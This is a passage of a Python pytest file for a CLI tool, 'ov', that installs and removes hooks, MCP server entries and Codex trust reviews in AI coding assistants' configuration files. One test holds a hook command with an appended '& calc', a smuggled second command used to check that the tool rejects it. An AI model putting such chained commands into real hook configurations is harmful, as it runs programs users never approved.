    installed = ov("install", "hooks", "--host", "gemini", "--host", "claude", "--yes", "--with-mcp", "--json").json["result"]["files"]
    assert [(f["file"], f["what"], f["changed"]) for f in installed] == [
        (settings, ["hooks", "mcp"], True),
        (str(user_home / ".claude" / "settings.json"), ["hooks"], True),
        (str(user_home / ".claude.json"), ["mcp"], True),
    ]
    (dry,) = ov("uninstall", "hooks", "--host", "gemini", "--with-mcp", "--dry-run", "--json").json["result"]["files"]
    removed_lines = [line for line in dry["diff"].splitlines() if line.startswith("-") and not line.startswith("---")]
    assert dry["what"] == ["hooks", "mcp"] and dry["diff"].count("+++ ") == 1
    assert any('"mcpServers"' in line for line in removed_lines) and any("hook gemini session-start" in line for line in removed_lines)
    removed = ov("uninstall", "hooks", "--host", "gemini", "--with-mcp", "--json").json["result"]["files"]
    assert [(f["file"], f["what"], f["changed"]) for f in removed] == [(settings, ["hooks", "mcp"], True)]


@pytest.mark.parametrize("foreign", [False, True], ids=["ovs-table", "users-table"])
def test_uninstalling_codex_hooks_with_mcp_hands_the_folder_to_the_table_and_takes_its_subtables(ov, user_home, foreign):
    """ov made .codex/ for hooks.json and config.toml. The hooks' uninstall hands the folder to
    config.toml's receipt; the server's, in the same run, takes [mcp_servers.ov] out with the
    subtable the user added, so config.toml (ov made it) is empty and goes, and the folder with it.
    A table of the user's own named `ov` stays, and so do its file and folder."""
    codex = user_home / ".codex"
    assert ov("install", "hooks", "--host", "codex", "--yes", "--with-mcp").exit_code == 0
    config = codex / "config.toml"
    if foreign:
        config.write_text('[mcp_servers.ov]\ncommand = "/opt/other/ov-server"\n\n[mcp_servers.ov.env]\nA = "1"\n')
    else:
        with config.open("a") as f:
            f.write('\n[mcp_servers.ov.tools.remember]\napproval_mode = "prompt"\n')
    kept = config.read_text()
    removed = ov("uninstall", "hooks", "--host", "codex", "--with-mcp", "--json")
    assert removed.exit_code == 0
    assert not (codex / "hooks.json").exists() and not _installs().exists()
    if foreign:
        assert config.read_text() == kept and sorted(p.name for p in codex.iterdir()) == ["config.toml"]
        assert f"the MCP server [mcp_servers.ov] in {config} is not ov's (it runs '/opt/other/ov-server'): left as it is" in removed.json["result"]["notes"]
    else:
        assert not codex.exists()


def test_claude_config_dir_is_where_a_users_own_server_named_ov_is_looked_for(ov, user_home, tmp_path, monkeypatch):
    """With $CLAUDE_CONFIG_DIR set, the server Claude Code would start is the one in that folder's
    .claude.json: a server of the user's named `ov` there is refused and left, one in the unread
    ~/.claude.json neither blocks the install nor is touched by it."""
    config_dir = tmp_path / "claude-config"
    config_dir.mkdir()
    monkeypatch.setenv("CLAUDE_CONFIG_DIR", str(config_dir))
    theirs = config_dir / ".claude.json"
    theirs.write_text(FOREIGN["claude"][1])
    result = ov("install", "hooks", "--host", "claude", "--yes", "--with-mcp")
    assert result.exit_code == 2 and f"the MCP server mcpServers.ov in {theirs} is not ov's" in result.stderr
    assert theirs.read_text() == FOREIGN["claude"][1] and sorted(p.name for p in config_dir.iterdir()) == [".claude.json"]
    assert _checks(ov).get("claude mcp (user)") is None

    theirs.unlink()
    unread = user_home / ".claude.json"
    unread.write_text(FOREIGN["claude"][1])
    assert ov("install", "mcp", "--host", "claude", "--yes").exit_code == 0
    assert install.is_our_server(json.loads(theirs.read_text())["mcpServers"]["ov"]) and unread.read_text() == FOREIGN["claude"][1]
    assert _checks(ov)["claude mcp (user)"]["status"] == "ok"
    removed = ov("uninstall", "mcp", "--host", "claude", "--json")
    assert removed.exit_code == 0 and not removed.json["result"]["notes"]
    assert not theirs.exists() and unread.read_text() == FOREIGN["claude"][1]


# --- a settings file synced from Windows: `…\ov.exe` is ov too --------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        r"C:\Users\x\.venv\Scripts\ov.exe hook claude stop",
        r'"C:\Program Files\ov tools\ov.exe" hook claude session-start',
        r"'C:\My Tools\ov.EXE' hook codex session-end",
        "ov.exe hook cursor stop",
        r"C:\Python311\python.exe -m ov hook gemini prompt-submit",
        # The launchers a Windows install may put on PATH instead of ov.exe.
        r"C:\Users\x\AppData\Local\ov\ov.cmd hook claude stop",
        r'"C:\Program Files\ov\OV.BAT" hook codex prompt-submit',
        "ov.cmd hook gemini session-end",
    ],
)
def test_windows_spellings_of_ov_are_recognised(command):
    assert install.is_ours(command)
    program = command.rsplit(" hook ", 1)[0].strip("'\"")
    assert install.is_our_server({"command": program, "args": ["mcp"]}) or program.endswith("-m ov")


@pytest.mark.parametrize("program", [r"C:\tools\nov.exe", "ov.exe.bak", r"C:\ov\tool.exe", "myov.exe", r"C:\x\ov.exe.lnk", "ov.ex", "nov.cmd", "ov.cmd.bak", r"C:\ov\run.bat"])
def test_windows_programs_that_only_hold_ov_are_not_ovs(program):
    assert not install.is_ours(f"{program} hook claude stop")
    assert not install.is_our_server({"command": program, "args": ["mcp"]})


def test_a_windows_ov_hook_with_more_after_it_is_not_ovs():
    assert not install.is_ours(r"C:\x\ov.exe hook claude stop & calc")


def test_a_file_synced_from_windows_gets_no_second_entry_and_no_leftover(ov, user_home):
    """Its `C:\\…\\ov.exe hook claude stop` was taken for a user's handler: the install added ov's
    beside it, the uninstall left it, and `ov install mcp` refused ov's own server as a stranger's."""
    settings = user_home / ".claude" / "settings.json"
    data = json.loads(settings.read_text())
    windows = r"C:\Users\me\.venv\Scripts\ov.exe"
    data["hooks"]["SessionStart"] = [{"hooks": [{"type": "command", "command": f"{windows} hook claude session-start", "timeout": 30}]}]
    data["hooks"]["Stop"][0]["hooks"].append({"type": "command", "command": f'"{windows}" hook claude stop'})
    settings.write_text(json.dumps(data, indent=2))
    (user_home / ".claude.json").write_text(json.dumps({"mcpServers": {"ov": {"type": "stdio", "command": windows.upper(), "args": ["mcp"]}}}))
    assert ov("install", "hooks", "--host", "claude", "--yes", "--with-mcp").exit_code == 0
    commands = _ov_handlers(settings)
    assert len(commands) == 5 and not [c for c in commands if "ov.exe" in c]  # one per event, this ov's
    assert json.loads((user_home / ".claude.json").read_text())["mcpServers"]["ov"]["command"] == install.ov_command()[0]
    assert ov("uninstall", "hooks", "--with-mcp").exit_code == 0
    # The list and the servers' object only (the other machine's) ov's entries filled go with them.
    assert json.loads(settings.read_text()) == json.loads(CLAUDE_SETTINGS)
    assert json.loads((user_home / ".claude.json").read_text()) == {}


# --- $CLAUDE_CONFIG_DIR: the server an earlier ov left in ~/.claude.json -----------------------------


def _claude_config_dir(monkeypatch, tmp_path: Path) -> Path:
    folder = tmp_path / "claude-config"
    folder.mkdir(exist_ok=True)
    monkeypatch.setenv("CLAUDE_CONFIG_DIR", str(folder))
    return folder


def test_an_install_under_claude_config_dir_leaves_the_server_in_home_and_an_uninstall_takes_it_out(ov, user_home, tmp_path, monkeypatch):
    """~/.claude.json is the file of the profile Claude Code reads without $CLAUDE_CONFIG_DIR, and
    this ov writes it too: an install under another profile took out that profile's server (a
    review). Earlier builds also wrote it whatever the variable said: an uninstall takes it out."""
    home_file = user_home / ".claude.json"
    before = _tree(user_home)
    assert ov("install", "mcp", "--host", "claude", "--yes").exit_code == 0  # the default profile's
    folder = _claude_config_dir(monkeypatch, tmp_path)
    result = ov("install", "mcp", "--host", "claude", "--yes", "--json")
    assert result.exit_code == 0, result.stderr
    assert [f["file"] for f in result.json["result"]["files"]] == [str(folder / ".claude.json")]
    assert install.is_our_server(json.loads(home_file.read_text())["mcpServers"]["ov"])
    removed = ov("uninstall", "mcp", "--host", "claude", "--json")
    assert removed.exit_code == 0
    assert any(str(home_file) in note and "without $CLAUDE_CONFIG_DIR" in note for note in removed.json["result"]["notes"])
    assert _tree(user_home) == before  # ov made ~/.claude.json: it goes, with its receipt
    assert not (folder / ".claude.json").exists() and not _installs().exists()


@pytest.mark.parametrize("command", [("uninstall", "mcp"), ("uninstall", "hooks", "--with-mcp"), ("install", "hooks", "--with-mcp", "--uninstall")])
def test_uninstalling_the_server_under_claude_config_dir_takes_out_the_earlier_one_too(ov, user_home, tmp_path, monkeypatch, command):
    home_file = user_home / ".claude.json"
    own = {"numStartups": 7, "mcpServers": {"docs": {"command": "docs-mcp"}, "ov": {"type": "stdio", "command": "/old/venv/bin/ov", "args": ["mcp"]}}}
    home_file.write_text(json.dumps(own, indent=2))
    folder = _claude_config_dir(monkeypatch, tmp_path)
    assert ov("install", "hooks", "--host", "claude", "--yes", "--with-mcp").exit_code == 0
    assert json.loads(home_file.read_text()) == own  # an install leaves it: it may be another profile's
    removed = ov(*command, "--host", "claude", "--json")
    assert removed.exit_code == 0
    assert json.loads(home_file.read_text()) == {"numStartups": 7, "mcpServers": {"docs": {"command": "docs-mcp"}}}
    assert any(str(home_file) in note for note in removed.json["result"]["notes"])
    assert not (folder / ".claude.json").exists()


def test_a_home_claude_json_that_ov_cannot_read_does_not_stop_the_install(ov, user_home, tmp_path, monkeypatch):
    (user_home / ".claude.json").write_text('{"mcpServers": {"ov": ')
    folder = _claude_config_dir(monkeypatch, tmp_path)
    result = ov("install", "mcp", "--host", "claude", "--yes", "--json")
    assert result.exit_code == 0 and [f["file"] for f in result.json["result"]["files"]] == [str(folder / ".claude.json")]
    assert (user_home / ".claude.json").read_text() == '{"mcpServers": {"ov": '


def test_claude_config_dir_that_is_home_has_no_earlier_file(ov, user_home, monkeypatch):
    monkeypatch.setenv("CLAUDE_CONFIG_DIR", str(user_home))
    assert ov("install", "mcp", "--host", "claude", "--yes").exit_code == 0
    result = ov("install", "mcp", "--host", "claude", "--yes", "--json")
    assert [f["file"] for f in result.json["result"]["files"]] == [str(user_home / ".claude.json")] and not result.json["result"]["notes"]
    assert install.is_our_server(json.loads((user_home / ".claude.json").read_text())["mcpServers"]["ov"])


# --- uninstalling with --trust: the trust ov's --trust wrote into Codex's config goes too ---------------


USER_CODEX = '# mine\nmodel = "o3"\n'


@pytest.fixture
def fake_codex(tmp_path: Path, monkeypatch) -> Path:
    """`codex` on PATH is tests/fake_codex.py, which answers ov's app-server calls; returns the user's config.toml."""
    from tests import fake_codex

    monkeypatch.setenv("PATH", str(fake_codex.install(tmp_path / "codex-bin")))
    monkeypatch.delenv("CODEX_HOME", raising=False)
    config = Path(os.environ["HOME"]) / ".codex" / "config.toml"
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text(USER_CODEX)
    return config


def _toml(path: Path) -> dict:
    import tomllib

    return tomllib.loads(path.read_text())


@pytest.mark.parametrize("command", [("install", "hooks", "--uninstall"), ("uninstall", "hooks")])
def test_uninstall_with_trust_takes_out_the_reviews_ov_wrote(ov, user_home, fake_codex, command):
    """`ov install hooks --trust --uninstall` removed the hooks and left their reviews in config.toml."""
    installed = ov("install", "hooks", "--host", "codex", "--yes", "--trust", "--json")
    assert installed.exit_code == 0, installed.stderr
    assert len(_toml(fake_codex)["hooks"]["state"]) == 5
    note = f"codex    takes the trust ov's --trust recorded out of {fake_codex}: 5 reviews of ov's hooks"
    dry = ov(*command, "--host", "codex", "--trust", "--dry-run", "--json")
    assert note in dry.json["result"]["notes"] and len(_toml(fake_codex)["hooks"]["state"]) == 5
    (diff,) = [f["diff"] for f in dry.json["result"]["files"] if f["file"] == str(fake_codex)]
    assert diff.count('\n-[hooks.state."') == 5 and "\n+" not in diff.split("@@", 1)[1]
    removed = ov(*command, "--host", "codex", "--trust", "--json")
    assert removed.exit_code == 0 and note in removed.json["result"]["notes"]
    assert fake_codex.read_text() == USER_CODEX and not _installs().exists()
    again = ov(*command, "--trust", "--json")  # every host, none wired: nothing to say of Codex's trust
    assert again.exit_code == 0 and not again.json["result"]["notes"]


def test_uninstall_with_trust_leaves_every_review_ov_did_not_write(ov, user_home, fake_codex):
    hooks = user_home / ".codex" / "hooks.json"
    hooks.write_text(json.dumps({"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "notify-send done"}]}]}}))
    own = f'[hooks.state."{hooks}:stop:0:0"]\ntrusted_hash = "sha256:mine"\n'
    fake_codex.write_text(USER_CODEX + "\n" + own)  # the user reviewed their own hook
    assert ov("install", "hooks", "--host", "codex", "--yes", "--trust").exit_code == 0
    state = _toml(fake_codex)["hooks"]["state"]
    assert state[f"{hooks}:stop:0:0"] == {"trusted_hash": "sha256:mine"} and len(state) == 6
    # The user reviews one of ov's hooks again after a change (another hash), and turns another off.
    start, end = f"{hooks}:session_start:0:0", f"{hooks}:session_end:0:0"
    text = fake_codex.read_text().replace(state[start]["trusted_hash"], "sha256:reviewed-again")
    text = text.replace(f'[hooks.state."{end}"]\n', f'[hooks.state."{end}"]\nenabled = false\n')
    fake_codex.write_text(text)
    assert ov("uninstall", "hooks", "--host", "codex", "--trust").exit_code == 0
    left = _toml(fake_codex)["hooks"]["state"]
    assert left == {f"{hooks}:stop:0:0": {"trusted_hash": "sha256:mine"}, start: {"trusted_hash": "sha256:reviewed-again"}, end: {"enabled": False}}
    assert fake_codex.read_text().startswith(USER_CODEX + "\n" + own)


def test_uninstall_with_trust_takes_out_the_project_trust_ov_gave_and_no_other(ov, project, fake_codex):
    args = ("--host", "codex", "--scope", "project")
    installed = ov("install", "hooks", *args, "--yes", "--trust", "--json")
    assert installed.exit_code == 0, installed.stderr
    assert _toml(fake_codex)["projects"][str(project)] == {"trust_level": "trusted"} and len(_toml(fake_codex)["hooks"]["state"]) == 5
    kept = ov("uninstall", "hooks", *args, "--dry-run", "--json")  # without --trust it stays, and the note says so
    (note,) = [n for n in kept.json["result"]["notes"] if n.startswith("codex")]
    assert note == f'codex    the trust ov\'s --trust recorded stays in {fake_codex} ([projects."{project}"] trust_level = "trusted" and 5 reviews of ov\'s hooks); add --trust to take it out too'
    assert ov("uninstall", "hooks", *args, "--trust").exit_code == 0
    assert fake_codex.read_text() == USER_CODEX and not (project / ".codex").exists()

    # A project the user trusted before: ov's --trust only reviews the hooks, and that is all the uninstall takes out.
    fake_codex.write_text(USER_CODEX + f'\n[projects."{project}"]\ntrust_level = "trusted"\n')
    trusted = fake_codex.read_text()
    assert ov("install", "hooks", *args, "--yes", "--trust").exit_code == 0
    removed = ov("install", "hooks", *args, "--trust", "--uninstall", "--json")
    assert f"codex    takes the trust ov's --trust recorded out of {fake_codex}: 5 reviews of ov's hooks" in removed.json["result"]["notes"]
    assert fake_codex.read_text() == trusted


def test_plain_uninstall_keeps_the_trust_and_says_where(ov, user_home, fake_codex):
    assert ov("install", "hooks", "--host", "codex", "--yes", "--trust").exit_code == 0
    trusted = fake_codex.read_text()
    removed = ov("uninstall", "hooks", "--host", "codex")
    assert removed.exit_code == 0 and fake_codex.read_text() == trusted
    says = f"the trust ov's --trust recorded stays in {fake_codex} (5 reviews of ov's hooks); ov keeps its record: `ov uninstall hooks --host codex --trust` takes it out"
    assert says in removed.stdout
    # (the record went with the hooks' receipt, so the --trust it names could not take anything out)
    later = ov("uninstall", "hooks", "--host", "codex", "--trust", "--json")
    assert later.exit_code == 0 and f"codex    takes the trust ov's --trust recorded out of {fake_codex}: 5 reviews of ov's hooks" in later.json["result"]["notes"]
    assert fake_codex.read_text() == USER_CODEX and not _installs().exists()
    again = ov("uninstall", "hooks", "--trust", "--json")  # nothing left to say
    assert again.exit_code == 0 and not again.json["result"]["notes"]


def test_the_kept_trust_of_a_project_is_taken_out_with_a_reinstalls(ov, project, fake_codex):
    """A plain uninstall, a re-install without --trust, then an uninstall with --trust: what the
    first --trust wrote goes too, the project's trust with it."""
    args = ("--host", "codex", "--scope", "project")
    assert ov("install", "hooks", *args, "--yes", "--trust").exit_code == 0
    assert ov("uninstall", "hooks", *args).exit_code == 0
    assert _toml(fake_codex)["projects"][str(project)] == {"trust_level": "trusted"}
    assert ov("install", "hooks", *args, "--yes").exit_code == 0
    removed = ov("uninstall", "hooks", *args, "--trust", "--json")
    assert removed.exit_code == 0, removed.stderr
    assert f'codex    takes the trust ov\'s --trust recorded out of {fake_codex}: [projects."{project}"] trust_level = "trusted" and 5 reviews of ov\'s hooks' in removed.json["result"]["notes"]
    assert fake_codex.read_text() == USER_CODEX and not (project / ".codex").exists() and not _installs().exists()


def test_an_install_waits_for_the_one_running_and_an_uninstall_never_removes_the_receipts_under_it(ov, user_home, monkeypatch):
    """(an uninstall removed the folder of receipts once it was empty, while an install could have just made it)"""
    from ov.errors import StoreLocked
    from ov.hosts import receipts

    receipts_dir = _installs()
    with receipts.install_lock(receipts_dir):
        monkeypatch.setattr(receipts, "LOCK_TIMEOUT", 0.2)
        held = ov("install", "hooks", "--host", "claude", "--yes", "--json")
        assert held.exit_code == 1 and held.error["code"] == "store_locked" and "another ov install or uninstall is running" in held.error["message"]
        assert not receipts_dir.exists() and ov("uninstall", "hooks", "--host", "claude").exit_code == 1
        assert ov("install", "hooks", "--host", "claude", "--yes", "--dry-run").exit_code == 0  # writes nothing: no lock
        with pytest.raises(StoreLocked), receipts.install_lock(receipts_dir, timeout=0.1):
            pass
    assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0 and len(list(receipts_dir.glob("*.json"))) == 1
    assert (receipts_dir.parent / receipts.LOCK_NAME).exists() and not (receipts_dir / receipts.LOCK_NAME).exists()  # beside the folder, which goes
    assert ov("uninstall", "hooks", "--host", "claude").exit_code == 0 and not receipts_dir.exists()


def test_uninstall_with_trust_says_when_ov_recorded_none(ov, user_home, fake_codex):
    """Installed without --trust (or by an ov that kept no record): the user's reviews are theirs, and stay."""
    assert ov("install", "hooks", "--host", "codex", "--yes").exit_code == 0
    hooks = user_home / ".codex" / "hooks.json"
    fake_codex.write_text(USER_CODEX + f'\n[hooks.state."{hooks}:stop:0:0"]\ntrusted_hash = "sha256:by-hand"\n')
    before = fake_codex.read_text()
    removed = ov("uninstall", "hooks", "--host", "codex", "--trust", "--json")
    assert removed.exit_code == 0 and fake_codex.read_text() == before
    assert f"codex    --trust: ov recorded no trust of its own for {hooks} (installed without --trust, or by an older ov), so {fake_codex} is left as it is" in removed.json["result"]["notes"]


@pytest.mark.parametrize("with_mcp", [False, True], ids=["hooks", "with-mcp"])
def test_a_codex_config_made_for_the_trust_goes_with_it(ov, user_home, fake_codex, with_mcp):
    """No .codex/ before: ov made the folder and hooks.json (and with --with-mcp config.toml), Codex
    made config.toml for the reviews. The uninstall with --trust leaves nothing of either."""
    shutil.rmtree(fake_codex.parent)
    before = _tree(user_home)
    flags = ["--with-mcp"] if with_mcp else []
    assert ov("install", "hooks", "--host", "codex", "--yes", "--trust", *flags).exit_code == 0
    assert len(_toml(fake_codex)["hooks"]["state"]) == 5 and ("mcp_servers" in _toml(fake_codex)) == with_mcp
    assert ov("uninstall", "hooks", "--host", "codex", "--trust", *flags).exit_code == 0
    assert _tree(user_home) == before and not _installs().exists()


def test_a_codex_config_ov_cannot_edit_refuses_the_uninstall_whole(ov, user_home, fake_codex):
    assert ov("install", "hooks", "--host", "codex", "--yes", "--trust").exit_code == 0
    state = _toml(fake_codex)["hooks"]["state"]
    inline = "hooks = { state = { " + ", ".join(f'"{k}" = {{ trusted_hash = "{v["trusted_hash"]}" }}' for k, v in state.items()) + " } }\n"
    fake_codex.write_text(inline + USER_CODEX)  # the same reviews, as one inline value
    hooks = user_home / ".codex" / "hooks.json"
    installed = hooks.read_bytes()
    result = ov("uninstall", "hooks", "--host", "codex", "--trust")
    assert result.exit_code == 2 and "inline value" in result.stderr
    assert hooks.read_bytes() == installed and fake_codex.read_text() == inline + USER_CODEX  # nothing written


def test_a_reinstall_from_another_ov_is_reviewed_again_with_trust_and_doctor_says_until_then(ov, user_home, fake_codex, tmp_path, monkeypatch):
    """(found by an audit: after `ov install hooks` from another ov, doctor said "reviewed" while
    Codex skipped every hook: a review holds the hash of the handler as it was)"""
    from ov.hosts import ovcommand

    assert ov("install", "hooks", "--host", "codex", "--yes", "--trust").exit_code == 0
    assert _checks(ov)["codex review"]["status"] == "ok"
    elsewhere = tmp_path / "pipx" / "bin" / "ov"  # the same ov, installed again under another path
    elsewhere.parent.mkdir(parents=True)
    elsewhere.symlink_to(install.ov_command()[0])
    monkeypatch.setattr(ovcommand, "ov_command", lambda: [str(elsewhere)])
    reinstalled = ov("install", "hooks", "--host", "codex", "--yes", "--json")
    assert any("/hooks" in n and "--trust" in n for n in reinstalled.json["result"]["notes"])
    review = _checks(ov)["codex review"]
    assert review["status"] == "warn" and review["detail"] == "5 of ov's hooks changed since reviewed, so Codex skips them", review
    assert review["fix"].startswith("ov install hooks --host codex --trust")
    trusted = ov("install", "hooks", "--host", "codex", "--yes", "--trust", "--json")
    assert _codex_note(trusted).startswith("codex    trusted ov's hooks: ") and "already" not in _codex_note(trusted)
    assert _checks(ov)["codex review"]["status"] == "ok"
    hooks = user_home / ".codex" / "hooks.json"
    assert _toml(fake_codex)["hooks"]["state"][f"{hooks}:stop:0:0"]["trusted_hash"] == _codex_hash(hooks, "stop")
    assert ov("uninstall", "hooks", "--host", "codex", "--trust").exit_code == 0
    assert fake_codex.read_text() == USER_CODEX


def test_a_reinstall_keeps_the_record_of_the_trust_ov_wrote(ov, user_home, fake_codex):
    assert ov("install", "hooks", "--host", "codex", "--yes", "--trust").exit_code == 0
    assert ov("install", "hooks", "--host", "codex", "--yes").exit_code == 0  # no --trust this time: the reviews are still ov's
    assert ov("uninstall", "hooks", "--host", "codex", "--trust").exit_code == 0
    assert fake_codex.read_text() == USER_CODEX


# --- doctor and uninstall meet a file that does not parse, an older ov's backup, a file removed by hand


def _doctor(ov) -> tuple[int, dict[str, dict]]:
    result = ov("doctor", "--json")
    return result.exit_code, {c["name"]: c for c in result.json["result"]["checks"]}


@pytest.mark.parametrize(("installed", "where"), [(False, "line 2, column 18: a comma before '}'"), (True, "line 2, column 19: expected a key")], ids=["never-installed", "broken-after-install"])
def test_doctor_says_a_settings_file_that_does_not_parse_is_unreadable_not_unwired(ov, user_home, installed, where):
    """Doctor said "installed, but ov's hooks are not" and offered `ov install hooks`, which then
    refused the file: the parse error was read as "no hooks"."""
    settings = user_home / ".claude" / "settings.json"
    settings.write_text('{\n  "theme": "dark"\n}\n')
    if installed:
        assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0
        settings.write_text(settings.read_text().replace('"dark",', '"dark",,', 1))  # a hand edit gone wrong
    else:
        settings.write_text('{\n  "theme": "dark",\n}\n')
    code, checks = _doctor(ov)
    check = checks["claude hooks (user)"]
    assert code == 1 and check["status"] == "fail"
    assert check["detail"].startswith(f"{settings} {where}") and "cannot tell whether its hooks are in it" in check["detail"]
    assert check["fix"].startswith(f"fix {settings} by hand at line 2") and "ov install hooks" not in check["fix"]
    backup = settings.with_name("settings.json.ov.bak")
    assert (f"copy back {backup}" in check["fix"]) == installed and backup.exists() == installed
    assert "claude hooks" not in checks and "claude last run" not in checks


def test_doctor_says_an_mcp_file_that_does_not_parse_once_and_leaves_a_home_file_no_host_reads(ov, user_home, tmp_path, monkeypatch):
    gemini = user_home / ".gemini" / "settings.json"
    gemini.write_text('{"mcpServers": {"ov": {"command": "ov", "args": ["mcp"]}},}\n')  # hooks and server in one file
    _codex_config(user_home, "model = \n")
    (user_home / ".claude.json").write_text('{"mcpServers": ')  # read by no host while $CLAUDE_CONFIG_DIR is set
    _claude_config_dir(monkeypatch, tmp_path)
    code, checks = _doctor(ov)
    assert code == 1
    assert checks["gemini hooks (user)"]["status"] == "fail" and "line 1, column 58: a comma" in checks["gemini hooks (user)"]["detail"]
    assert "gemini mcp (user)" not in checks  # one file, said once
    codex = checks["codex mcp (user)"]
    assert codex["status"] == "fail" and "config.toml" in codex["detail"] and "line 1" in codex["detail"] and "server is in it" in codex["detail"]
    assert codex["fix"].startswith(f"fix {user_home / '.codex' / 'config.toml'} by hand")
    assert not any(str(user_home / ".claude.json") in c["detail"] for c in checks.values())


def test_doctor_flags_ovs_server_stranded_in_home_under_claude_config_dir(ov, user_home, tmp_path, monkeypatch):
    """An uninstall takes it out; doctor said nothing of it while it was there."""
    home_file = user_home / ".claude.json"
    own = {"numStartups": 7, "mcpServers": {"ov": {"type": "stdio", "command": "/old/venv/bin/ov", "args": ["mcp"]}}}
    home_file.write_text(json.dumps(own))
    folder = _claude_config_dir(monkeypatch, tmp_path)
    _code, checks = _doctor(ov)
    check = checks["claude mcp leftover"]
    assert check["status"] == "warn" and check["detail"].startswith(f"{home_file} still registers ov's server")
    assert str(folder / ".claude.json") in check["detail"]
    assert "ov uninstall mcp --host claude" in check["fix"] and "a profile you use" in check["fix"]
    assert ov("uninstall", "mcp", "--host", "claude").exit_code == 0
    assert json.loads(home_file.read_text()) == {"numStartups": 7}  # the servers' object only ov's server filled goes too
    assert "claude mcp leftover" not in _doctor(ov)[1]
    home_file.write_text(FOREIGN["claude"][1])  # a server of the user's named `ov` is theirs
    assert "claude mcp leftover" not in _doctor(ov)[1]


def _older_backup(settings: Path) -> Path:
    """The backup as an ov before the first-install rule wrote it: the file as it was just now."""
    backup = settings.with_name(settings.name + ".ov.bak")
    backup.write_bytes(settings.read_bytes())
    return backup


@pytest.mark.parametrize("order", ["with-mcp", "hooks-first", "mcp-first"])
@pytest.mark.parametrize("installed_first", ["hooks", "mcp"])
def test_an_older_ovs_backup_holding_ovs_own_entries_goes_with_the_last_uninstall(ov, user_home, order, installed_first):
    """Older ovs rewrote Gemini's settings.json.ov.bak when the second of hooks and server went in:
    it held ov's first entries, never equalled the file given back, and stayed for good."""
    settings = user_home / ".gemini" / "settings.json"
    installed_second = "mcp" if installed_first == "hooks" else "hooks"
    assert ov("install", installed_first, "--host", "gemini", "--yes").exit_code == 0
    backup = _older_backup(settings)
    assert ov("install", installed_second, "--host", "gemini", "--yes").exit_code == 0
    assert "ov-session-start" in settings.read_text() and '"mcpServers"' in settings.read_text()
    assert backup.read_text() != GEMINI_SETTINGS
    if order == "with-mcp":
        assert ov("uninstall", "hooks", "--host", "gemini", "--with-mcp").exit_code == 0
    else:
        first, second = ("hooks", "mcp") if order == "hooks-first" else ("mcp", "hooks")
        assert ov("uninstall", first, "--host", "gemini").exit_code == 0
        assert backup.exists()  # the file still holds the other's entries
        assert ov("uninstall", second, "--host", "gemini").exit_code == 0
    assert settings.read_text() == GEMINI_SETTINGS
    assert sorted(p.name for p in settings.parent.iterdir()) == ["settings.json"] and not _installs().exists()


def test_an_older_ovs_backup_of_a_reinstall_from_another_ov_goes_too(ov, user_home):
    """A re-install by an older ov rewrote the backup with the first install's hooks in it."""
    settings = user_home / ".claude" / "settings.json"
    assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0
    _older_backup(settings).write_text(settings.read_text().replace(install.ov_command()[0], "/old/venv/bin/ov"))
    assert ov("uninstall", "hooks").exit_code == 0
    assert settings.read_text() == CLAUDE_SETTINGS and sorted(p.name for p in settings.parent.iterdir()) == ["settings.json"]


@pytest.mark.parametrize(
    "edit",
    [
        lambda text: text.replace('"theme": "GitHub"', '"theme": "Dracula"'),  # a value the file no longer holds
        lambda text: text.replace("// my Gemini settings", "// my Gemini settings, as they were"),  # a comment
        lambda text: text.replace('"hooks": {', '"hooks": {\n    "Notification": [],', 1),  # an empty list of the user's
    ],
    ids=["value", "comment", "empty-list"],
)
def test_a_backup_holding_anything_but_the_file_and_ovs_entries_stays(ov, user_home, edit):
    settings = user_home / ".gemini" / "settings.json"
    assert ov("install", "hooks", "--host", "gemini", "--yes").exit_code == 0
    backup = _older_backup(settings)
    backup.write_text(edit(backup.read_text()))
    kept = backup.read_bytes()
    assert ov("install", "mcp", "--host", "gemini", "--yes").exit_code == 0
    assert ov("uninstall", "hooks", "--host", "gemini", "--with-mcp").exit_code == 0
    assert settings.read_text() == GEMINI_SETTINGS and backup.read_bytes() == kept


@pytest.mark.parametrize("command", [("uninstall", "hooks"), ("install", "hooks", "--uninstall")])
def test_a_hooks_file_removed_by_hand_is_said_and_its_receipt_dropped(ov, user_home, command):
    """The receipt stayed for good: uninstall said nothing, doctor said the hooks were not installed."""
    assert ov("install", "hooks", "--host", "claude", "--host", "codex", "--yes").exit_code == 0
    settings, hooks = user_home / ".claude" / "settings.json", user_home / ".codex" / "hooks.json"
    backup = settings.with_name("settings.json.ov.bak")
    settings.unlink()
    hooks.unlink()
    _code, checks = _doctor(ov)
    for host, path in (("claude", settings), ("codex", hooks)):
        check = checks[f"{host} hooks (user)"]
        assert check["status"] == "warn" and check["detail"] == f"{path} no longer exists, but ov's receipt says its hooks were installed there"
        assert check["fix"] == f"ov install hooks --host {host} --scope user puts them back; ov uninstall hooks --host {host} --scope user forgets them"
    hosts = ("--host", "claude", "--host", "codex")
    dry = ov(*command, *hosts, "--dry-run")
    assert dry.exit_code == 0 and len(list(_installs().glob("*.json"))) == 2
    removed = ov(*command, *hosts, "--json")
    assert removed.exit_code == 0
    report = removed.json["result"]
    assert [(f["file"], f["changed"], f.get("action")) for f in report["files"]] == [(str(settings), False, "already gone"), (str(hooks), False, "already gone")]
    assert f"claude   {settings} no longer exists: nothing to take out of it, and ov forgets its install there ({backup} keeps the file as it was before ov's first write)" in report["notes"]
    assert backup.read_text() == CLAUDE_SETTINGS  # the user's file as it was: not ov's to delete
    assert not (user_home / ".codex").exists()  # the folder ov made for hooks.json, empty now
    assert not _installs().exists()
    after = _doctor(ov)[1]
    assert "claude hooks (user)" not in after and after["claude hooks"]["detail"] == "Claude Code is installed, but ov's hooks are not in it"
    assert ov(*command, *hosts).stdout == ""  # nothing left to say


def test_a_file_removed_by_hand_then_installed_again_keeps_its_backup_through_the_uninstall(ov, user_home):
    """The re-install made a new file (its receipt: ov made it), and the uninstall that removed that
    file took the backup with it: the user's file as it was before ov, held nowhere else."""
    settings = user_home / ".claude" / "settings.json"
    backup = settings.with_name("settings.json.ov.bak")
    assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0
    settings.unlink()
    assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0
    assert backup.read_text() == CLAUDE_SETTINGS
    removed = ov("uninstall", "hooks", "--host", "claude")
